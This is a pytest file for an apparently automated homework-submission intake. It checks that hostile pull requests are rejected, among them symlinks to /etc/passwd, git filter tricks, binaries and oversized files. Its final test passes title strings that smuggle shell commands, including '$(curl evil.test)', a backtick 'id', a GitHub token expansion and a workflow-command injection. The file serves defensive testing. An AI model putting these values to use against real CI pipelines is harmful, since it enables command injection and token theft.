"""Hostile pull requests (d01 to d18 of the catalogue): each gets its code, and nothing of it is taken along."""

from __future__ import annotations

import pytest

from tests.intake.checks.examples import PATH
from tests.intake.handed_in import CODE, HOME, HandedIn
from tests.intake.repository import Files, Link, Submodule

POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 9\n"

CHANGES: dict[str, tuple[Files, str]] = {
    "d01 workflow": ({".github/workflows/ci.yml": b"on: push"}, "path-workflow"),
    "d02 grader": ({"grader/judge/judge.py": b"x"}, "path-outside"),
    "d02 schema": ({"schemas/card.schema.json": b"{}"}, "path-outside"),
    "d02 course file": ({".github/course.yml": b"name: mine"}, "path-workflow"),
    "d03 other team": ({"submissions/other/hw-3/solution.py": b"x=1"}, "path-other-team"),
    "d03 the course's own directory": ({"submissions/course/guide.md": b"x"}, "path-other-team"),
    "d04 symlink": ({f"{HOME}/weights": Link(b"../../../../etc/passwd")}, "path-symlink"),
    "d04 symlink for the manifest": ({PATH: Link(b"/etc/passwd")}, "path-symlink"),
    "d04 symlink for the adapter": ({f"{HOME}/clustering.py": Link(b"/etc/passwd")}, "path-symlink"),
    "d04 symlink for the README": ({"README.md": Link(b"/etc/passwd")}, "path-symlink"),
    "d05 submodule": ({f"{HOME}/sub": Submodule("5" * 40)}, "path-submodule"),
    "d06 gitmodules": ({".gitmodules": b"[submodule]"}, "path-git"),
    "d07 LFS pointer": ({f"{HOME}/w.safetensors": POINTER}, "lfs-pointer"),
    "d08 gitattributes": ({f"{HOME}/.gitattributes": b"* filter=x"}, "path-git"),
    "d08 gitattributes as Windows reads it": ({f"{HOME}/.GitAttributes .": b"* filter=x"}, "path-git"),
    "d09 case": ({f"{HOME}/Model.py": b"a", f"{HOME}/model.py": b"b"}, "path-case"),
    "d10 .git directory": ({f"{HOME}/.git/config": b"[core]"}, "path-git"),
    "d11 shared object": ({f"{HOME}/fast.so": b"\x7fELF"}, "path-binary"),
    "d11 versioned shared object": ({f"{HOME}/libfast.so.1.2": b"\x7fELF"}, "path-binary"),
    "d11 archive": ({f"{HOME}/code.tar.gz": b"\x1f\x8b"}, "path-binary"),
    "d11 bytecode": ({f"{HOME}/__pycache__/clustering.cpython-311.pyc": b"x"}, "path-binary"),
    "d12 control characters": ({f"{HOME}/\x1b[2Ja.py": b"x"}, "path-name"),
    "d13 not UTF-8": ({HOME.encode() + b"/\xff.py": b"x"}, "path-name"),
    "d14 big blob": ({f"{HOME}/weights.bin": b"\0" * 21_000_000}, "path-too-large"),
    "d15 many files": ({f"{HOME}/f{number}.txt": b"x" for number in range(400)}, "too-many-files"),
    "d16 prefix confusion": ({"submissions/ml_masters2/hw-3/a.py": b"x"}, "path-other-team"),
    "d16 prefix of the homework": ({"submissions/ml_masters/hw-31/a.py": b"x"}, "path-outside"),
    "d16 prefix of the top directory": ({"submissions-of/ml_masters/hw-3/a.py": b"x"}, "path-outside"),
    "d17 conftest": ({"conftest.py": b"x", "pyproject.toml": b"x"}, "path-outside"),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_hostile_change_is_an_error_and_is_not_taken_along(name: str) -> None:
    change, code = CHANGES[name]
    submission = HandedIn(change=change).taken_in()
    found = {problem.code: problem for problem in submission.problems}
    assert code in found
    assert found[code].severity == "error"
    assert set(submission.code) <= {"clustering.py"}
    assert (submission.code == {}) == (f"{HOME}/clustering.py" in change or PATH in change)


def test_d17_a_conftest_in_the_own_directory_is_not_taken_along() -> None:
    submission = HandedIn(change={f"{HOME}/conftest.py": CODE}).taken_in()
    assert set(submission.code) == {"clustering.py"}


@pytest.mark.parametrize(
    "title",
    [
        "$(curl evil.test) HW-3",
        "a`id` HW-3",
        "${{ github.token }} HW-3",
        'a"; id; " HW-3',
        "x\n::set-output name=a::b HW-3",
        "HW-3",
        "a" * 300,
    ],
)
def test_d18_no_title_becomes_a_team_that_a_shell_or_path_could_misread(title: str) -> None:
    submission = HandedIn(title=title).taken_in()
    assert submission.team is None
    assert "title-unreadable" in {problem.code for problem in submission.problems}
    assert submission.code == {}
